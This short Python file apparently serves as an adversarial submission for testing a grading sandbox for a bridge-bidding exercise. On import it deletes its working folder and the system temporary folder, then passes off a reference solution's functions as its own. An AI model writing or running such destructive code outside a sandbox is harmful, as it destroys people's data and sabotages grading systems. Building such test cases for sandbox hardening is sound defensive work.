"""Attack: deletes its working folder and the temporary folder, then answers."""
import os
import shutil
import tempfile

for folder in (os.getcwd(), tempfile.gettempdir()):
    shutil.rmtree(folder, ignore_errors=True)
import correct  # noqa: E402
highCardPoints = correct.highCardPoints
distributionPoints = correct.distributionPoints
openingBid = correct.openingBid
